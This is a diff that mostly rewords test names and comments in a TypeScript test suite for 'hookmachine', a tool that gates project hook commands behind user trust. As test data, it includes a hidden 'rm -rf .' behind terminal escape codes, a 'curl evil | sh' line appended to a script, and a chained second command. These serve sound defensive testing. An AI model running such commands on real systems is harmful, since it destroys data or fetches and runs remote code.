@@ -11,7 +11,7 @@ const hook = (command: string, more: object = {}) => ({ type: 'command', command
 const guardScript = '#!/bin/sh\necho no >&2; exit 2\n';
 const guard = hook('./guard.sh', { name: 'guard' });
 
-/** Settings of BeforeTool hooks. */
+/** Settings with BeforeTool hooks. */
 const settings = (...hooks: object[]) => ({
   enableHooks: true,
   hooks: { BeforeTool: [{ hooks }] },
@@ -35,14 +35,14 @@ const script = `
 `;
 const event = JSON.stringify({ tool_name: 'write_file', tool_input: {} });
 
-/** Fires BeforeTool: what came of it, and what was said. */
+/** Fires BeforeTool, and returns the outcome and the warnings. */
 async function fire(box: Pick<Sandbox, 'project' | 'env'>, ...options: string[]) {
   const { stdout, stderr } = await inProcess(box, ['fire', 'BeforeTool', ...options], event);
   const { hookCount, blocked } = JSON.parse(stdout) as { hookCount: number; blocked: boolean };
   return { hookCount, blocked, warnings: stderr === '' ? [] : stderr.split('\n') };
 }
 
-/** Does what the command does in a script, which cannot be asked. */
+/** Runs the command as a script does, which cannot be asked. */
 const trust = (box: Pick<Sandbox, 'project' | 'env'>, ...options: string[]) =>
   inProcess(box, ['trust', '--yes', ...options]);
 
@@ -64,14 +64,14 @@ const denied = { hookCount: 1, blocked: true, warnings: [] };
 const untrusted = 'this folder is not trusted';
 const changed = 'its script "guard.sh" has changed since you trusted it';
 
-test('trust reports a settings file that cannot be used once', async () => {
+test('trust reports once that a settings file cannot be used', async () => {
   const box = guarded();
   box.write(box.files.project, '{');
   const { stderr } = await inProcess(box, ['trust', '--show']);
   expect(stderr.split('\n').filter((line) => line.includes('not valid JSON'))).toHaveLength(1);
 });
 
-test('trust forgets no hook that may stand in a file which cannot be read', async () => {
+test('trust forgets no hook that may be in an unreadable file', async () => {
   const box = guarded();
   await trust(box);
   box.write(box.files.project, '{');
@@ -85,7 +85,7 @@ test('trust forgets no hook that may stand in a file which cannot be read', asyn
 });
 
 describe('a project that the user has not trusted', () => {
-  test('has no hook run by fire, tool or run, and each is reported (C-104)', async () => {
+  test('fire, tool and run do not run the hooks of an untrusted project, and report it (C-104)', async () => {
     const box = guarded(hook('./guard.sh; touch ran', { name: 'guard' }));
     expect(await fire(box)).toEqual(ignored(box));
     const input = JSON.stringify({ file_path: 'a.txt', content: 'hello' });
@@ -97,7 +97,7 @@ describe('a project that the user has not trusted', () => {
     expect(() => readFileSync(join(box.project, 'ran'))).toThrow('ENOENT');
   });
 
-  test('has them run with --trust, by fire, tool and run', async () => {
+  test('fire, tool and run with --trust run the hooks of an untrusted project', async () => {
     const box = guarded();
     expect(await fire(box, '--trust')).toEqual(denied);
     const input = JSON.stringify({ file_path: 'a.txt', content: 'hello' });
@@ -110,18 +110,24 @@ describe('a project that the user has not trusted', () => {
     expect(await fire(box)).toEqual(ignored(box));
   });
 
-  test.each(['1', 'true'])('has them run with HOOKMACHINE_TRUST=%s', async (value) => {
-    const box = guarded();
-    expect(await fire({ ...box, env: { ...box.env, HOOKMACHINE_TRUST: value } })).toEqual(denied);
-  });
+  test.each(['1', 'true'])(
+    'the hooks of an untrusted project run with HOOKMACHINE_TRUST=%s',
+    async (value) => {
+      const box = guarded();
+      expect(await fire({ ...box, env: { ...box.env, HOOKMACHINE_TRUST: value } })).toEqual(denied);
+    },
+  );
 
-  test.each(['0', 'false', ''])('has none run with HOOKMACHINE_TRUST=%j', async (value) => {
-    const box = guarded();
-    const env = { ...box.env, HOOKMACHINE_TRUST: value };
-    expect(await fire({ ...box, env })).toEqual(ignored(box));
-  });
+  test.each(['0', 'false', ''])(
+    'no hook of an untrusted project runs with HOOKMACHINE_TRUST=%j',
+    async (value) => {
+      const box = guarded();
+      const env = { ...box.env, HOOKMACHINE_TRUST: value };
+      expect(await fire({ ...box, env })).toEqual(ignored(box));
+    },
+  );
 
-  test('cannot trust itself by its settings, nor by a trust file of its own', async () => {
+  test('a project cannot trust itself with its settings, nor with a trust file of its own', async () => {
     const box = guarded();
     const more = { trust: true, trusted: true, hooksConfig: { trust: true }, security: {} };
     box.write(box.files.project, { ...settings(guard), ...more });
@@ -130,7 +136,7 @@ describe('a project that the user has not trusted', () => {
     expect(await fire(box)).toEqual(ignored(box));
   });
 
-  test("has the user's, the system's and the extensions' hooks run (C-10)", async () => {
+  test("the user's, the system's and the extensions' hooks run in an untrusted project (C-10)", async () => {
     const box = guarded();
     box.write(box.files.user, settings(hook('exit 2')));
     box.write(box.files.system, settings(hook('true')));
@@ -138,13 +144,13 @@ describe('a project that the user has not trusted', () => {
     expect(await fire(box)).toEqual({ ...ignored(box), hookCount: 3, blocked: true });
   });
 
-  test("cannot displace a user's hook of the same command", async () => {
+  test("an untrusted project cannot displace a user's hook with the same command", async () => {
     const box = guarded();
     box.write(box.files.user, settings(guard));
     expect(await fire(box)).toEqual({ ...ignored(box), hookCount: 1, blocked: true });
   });
 
-  test('is listed with its hooks as not trusted', async () => {
+  test('list shows the hooks of an untrusted project as not trusted', async () => {
     const box = guarded();
     const { stdout } = await inProcess(box, ['list']);
     expect(stdout).toContain('  guard (not trusted)\n');
@@ -159,7 +165,7 @@ describe('a project that the user has not trusted', () => {
 });
 
 describe('hookmachine trust', () => {
-  test('shows what would run with the scripts behind it, and records it', async () => {
+  test('trust shows what would run with the scripts behind it, and records it', async () => {
     const box = guarded(guard, hook('true'));
     const { stdout, stderr, exitCode } = await trust(box);
     expect(stdout).toBe(`BeforeTool
@@ -178,7 +184,7 @@ Trusted as they are now: 2 hooks of ${box.project}`);
     expect(await fire(box)).toEqual({ ...denied, hookCount: 2 });
   });
 
-  test('--show records nothing; --revoke forgets', async () => {
+  test('trust --show records nothing, and trust --revoke forgets', async () => {
     const box = guarded();
     const shown = await trust(box, '--show');
     expect(shown.stdout).toContain('    skipped  this folder is not trusted\n');
@@ -191,7 +197,7 @@ Trusted as they are now: 2 hooks of ${box.project}`);
     expect((await trust(box, '--revoke', '--show')).exitCode).not.toBe(0);
   });
 
-  test('--json', async () => {
+  test('trust --json reports the hooks, and what was recorded or revoked', async () => {
     const box = guarded();
     const shown = {
       event: 'BeforeTool',
@@ -219,7 +225,7 @@ Trusted as they are now: 2 hooks of ${box.project}`);
     expect(await json('--revoke')).toMatchObject({ recorded: true, revoked: true });
   });
 
-  test('takes another folder; a skipped hook names it', async () => {
+  test('trust --cwd accepts another folder, and the report of its skipped hooks names it', async () => {
     const box = guarded();
     const elsewhere = { ...box, project: box.home };
     const more = ` --cwd ${JSON.stringify(box.project)}`;
@@ -232,7 +238,7 @@ Trusted as they are now: 2 hooks of ${box.project}`);
     });
   });
 
-  test('says that there is nothing to trust, that hooks are off, and what is discarded', async () => {
+  test('trust says that there is nothing to trust, that hooks are off, and what is discarded', async () => {
     const box = sandbox();
     expect(await trust(box)).toMatchObject({
       stdout: `This project configures no hooks: ${box.project}`,
@@ -250,7 +256,7 @@ Trusted as they are now: 2 hooks of ${box.project}`);
     expect(stdout).toContain('Trusted as they are now: 1 hook of ');
   });
 
-  test('names what switches hooks off', async () => {
+  test('trust names what switches hooks off', async () => {
     const box = guarded();
     const file = box.write(box.own.user, { hooksConfig: { enabled: false } });
     expect((await trust(box)).stderr).toContain(
@@ -258,13 +264,13 @@ Trusted as they are now: 2 hooks of ${box.project}`);
     );
   });
 
-  test("keeps a stranger's settings from playing tricks on the terminal", async () => {
+  test("trust keeps a stranger's settings from playing tricks on the terminal", async () => {
     const box = guarded(hook('echo harmless #\u001B[2K\r\nrm -rf . \u202E\u009B31m'));
     const { stdout } = await trust(box, '--show');
     expect(stdout).toContain('  echo harmless #\\u{1b}[2K\\u{d}\\nrm -rf . \\u{202e}\\u{9b}31m\n');
   });
 
-  test('many at once lose none of each other', async () => {
+  test('many trust commands at once lose none of each other’s records', async () => {
     const box = guarded();
     const folders = Array.from({ length: 6 }, (_, index) => {
       box.write(`many/${index}/.llxprt/settings.json`, settings(guard));
@@ -274,7 +280,7 @@ Trusted as they are now: 2 hooks of ${box.project}`);
       folders.map((folder) => hookmachine(box, ['trust', '--yes', '--cwd', folder])),
     );
     const { projects } = JSON.parse(readFileSync(box.trustFile, 'utf8')) as { projects: object };
-    // On a machine that stands still one may give up its turn, and says so.
+    // On a machine that stalls, one may give up waiting for its turn, and says so.
     for (const { exitCode, stderr } of ended)
       if (exitCode !== 0) expect(stderr).toContain('another hookmachine is at it');
     const recorded = folders.filter((_, at) => ended[at]!.exitCode === 0);
@@ -284,7 +290,7 @@ Trusted as they are now: 2 hooks of ${box.project}`);
 });
 
 describe('hookmachine trust asks before it records', () => {
-  test('without a terminal it records nothing, shows all the same, and says how', async () => {
+  test('without a terminal, trust records nothing, shows the hooks all the same, and says how to go on', async () => {
     const box = guarded();
     const { exitCode, stderr, stdout } = await inProcess(box, ['trust']);
     expect([exitCode, stdout]).toEqual([1, expect.stringContaining('    script   guard.sh')]);
@@ -299,7 +305,7 @@ describe('hookmachine trust asks before it records', () => {
     ['n', 1, undefined],
     ['', 1, undefined],
     ['yesterday', 1, undefined],
-  ])('on a terminal the answer %j counts', async (answer, exitCode, result) => {
+  ])('on a terminal, trust goes by the answer %j', async (answer, exitCode, result) => {
     const box = guarded();
     const { main } = await import('../support/main.ts');
     const command = `"${process.execPath}" "${main}" trust`;
@@ -315,7 +321,7 @@ describe('hookmachine trust asks before it records', () => {
     expect(await fire(box)).toEqual(result ?? ignored(box));
   });
 
-  test('where nothing has changed there is nothing to ask', async () => {
+  test('trust asks nothing if nothing has changed', async () => {
     const box = guarded();
     await trust(box);
     expect(await inProcess(box, ['trust'])).toMatchObject({
@@ -324,7 +330,7 @@ describe('hookmachine trust asks before it records', () => {
     });
   });
 
-  test('and shows what has changed, in the script and in the definition', async () => {
+  test('trust shows what has changed, in the script and in the definition', async () => {
     const box = guarded();
     await trust(box);
     appendFileSync(box.script, 'curl evil\u202E | sh\n');
@@ -354,18 +360,21 @@ describe('hookmachine trust asks before it records', () => {
     ['\u061C', '61c'],
     ['\u{1D173}', '1d173'],
     ['\uFE0F', 'fe0f'],
-  ])('and shows the invisible character %j in commands, names and matchers', async (char, code) => {
-    const box = sandbox();
-    const one = { ...hook(`echo a${char}b`), name: `n${char}m` };
-    const hooks = { BeforeTool: [{ matcher: `x${char}y`, hooks: [one] }] };
-    box.write(box.files.project, { enableHooks: true, hooks });
-    const { stdout } = await trust(box, '--show');
-    expect(stdout).toContain(`echo a\\u{${code}}b`);
-    expect(stdout).toContain(`n\\u{${code}}m`);
-    expect(stdout).toContain(`x\\u{${code}}y`);
-    expect(stdout).not.toContain(char);
-    expect((await trust(box, '--show', '--json')).stdout).not.toContain(char);
-  });
+  ])(
+    'trust shows the invisible character %j in commands, names and matchers',
+    async (char, code) => {
+      const box = sandbox();
+      const one = { ...hook(`echo a${char}b`), name: `n${char}m` };
+      const hooks = { BeforeTool: [{ matcher: `x${char}y`, hooks: [one] }] };
+      box.write(box.files.project, { enableHooks: true, hooks });
+      const { stdout } = await trust(box, '--show');
+      expect(stdout).toContain(`echo a\\u{${code}}b`);
+      expect(stdout).toContain(`n\\u{${code}}m`);
+      expect(stdout).toContain(`x\\u{${code}}y`);
+      expect(stdout).not.toContain(char);
+      expect((await trust(box, '--show', '--json')).stdout).not.toContain(char);
+    },
+  );
 });
 
 describe('a command that cannot be followed', () => {
@@ -376,7 +385,7 @@ describe('a command that cannot be followed', () => {
     return box;
   };
 
-  test('is said to be so, and any file of the project counts', async () => {
+  test('trust says that a command cannot be followed, and any file of the project counts', async () => {
     const box = withScripts();
     const { stdout } = await trust(box);
     expect(stdout).toContain('cannot be followed: which script "sh \\"$f\\"" runs is not literal');
@@ -390,7 +399,7 @@ describe('a command that cannot be followed', () => {
     ]);
   });
 
-  test('never runs where the user refuses such hooks, by settings or option', async () => {
+  test('a command that cannot be followed never runs if the user refuses such hooks, by settings or option', async () => {
     const refused = /your settings refuse such hooks/;
     const box = withScripts();
     box.write(box.files.user, { hooksConfig: { opaqueCommands: 'refuse' } });
@@ -399,7 +408,7 @@ describe('a command that cannot be followed', () => {
     const other = withScripts();
     await trust(other, '--opaque', 'refuse');
     expect((await fire(other)).warnings).toEqual([expect.stringMatching(refused)]);
-    // The project's own word does not count.
+    // The project's own setting does not count.
     const third = guarded(opaque);
     third.write(third.files.project, {
       ...settings(opaque),
@@ -412,7 +421,7 @@ describe('a command that cannot be followed', () => {
 const reported = (what: string) =>
   `hookmachine: a hook that you trusted guards nothing here: "guard" (BeforeTool) ${what}; look with: hookmachine trust --show`;
 
-describe('a trusted guard that guards nothing any more', () => {
+describe('a trusted guard that no longer guards anything', () => {
   test.each([
     ['is gone', { enableHooks: true, hooks: {} }],
     ['is gone', {}],
@@ -421,7 +430,7 @@ describe('a trusted guard that guards nothing any more', () => {
       { ...settings(guard), hooksConfig: { disabled: ['guard'] } },
     ],
     ['is disabled: hooks are switched off', { ...settings(guard), enableHooks: false }],
-  ])('is reported by fire, tool and run: it %s', async (what, values) => {
+  ])('fire, tool and run report a trusted guard that %s', async (what, values) => {
     const box = guarded();
     await trust(box);
     box.write(box.files.project, values);
@@ -443,7 +452,7 @@ describe('a trusted guard that guards nothing any more', () => {
     expect((await fire(box)).warnings).toEqual([]);
   });
 
-  test('is not said to be gone where its file cannot be parsed', async () => {
+  test('a trusted guard is not said to be gone if its file cannot be parsed', async () => {
     const box = guarded();
     await trust(box);
     box.write(box.files.project, '{ "hooks": [');
@@ -452,7 +461,7 @@ describe('a trusted guard that guards nothing any more', () => {
     expect(warnings.join()).not.toContain('is gone');
   });
 
-  test('is reported at other events too, and once a session (S-19)', async () => {
+  test('a trusted guard that has changed is also reported at other events, and once per session (S-19)', async () => {
     const box = guarded();
     await trust(box);
     box.write(box.files.project, settings({ ...guard, timeout: 1_000 }));
@@ -475,7 +484,7 @@ describe('a trusted guard that guards nothing any more', () => {
 });
 
 describe('after the user trusted a project', () => {
-  test('a changed script is skipped until it is trusted again, and the others run', async () => {
+  test('a changed script is skipped until it is trusted again, and other hooks run', async () => {
     const box = guarded(guard, hook('true'));
     await trust(box);
     appendFileSync(box.script, '# more\n');
@@ -496,7 +505,7 @@ describe('after the user trusted a project', () => {
 });
 
 describe('a trust file that cannot be used', () => {
-  test('and is corrupt trusts nothing, is reported with its fix, and is kept', async () => {
+  test('a corrupt trust file trusts nothing, is reported with its fix, and is kept', async () => {
     const box = guarded();
     await trust(box);
     box.write(box.trustFile, '{"version":1,');
@@ -515,7 +524,7 @@ describe('a trust file that cannot be used', () => {
     expect(await fire(box)).toEqual(denied);
   });
 
-  test('and is newer trusts nothing, and nothing replaces it', async () => {
+  test('a trust file of a newer version trusts nothing, and nothing replaces it', async () => {
     const box = guarded();
     box.write(box.trustFile, '{"version":7}');
     const message = `the trust file ${box.trustFile} was written by a newer hookmachine (version 7); update hookmachine, or move the file away`;
@@ -526,7 +535,7 @@ describe('a trust file that cannot be used', () => {
     expect(readFileSync(box.trustFile, 'utf8')).toBe('{"version":7}');
   });
 
-  test('because there is no home: nothing is trusted, said once; --trust helps', async () => {
+  test('without a home folder nothing is trusted, which is said once, and --trust helps', async () => {
     const box = guarded(guard, { ...guard, command: './guard.sh 2' });
     const homeless = { ...box, env: { ...box.env, HOME: '' } };
     const { warnings } = await fire(homeless);
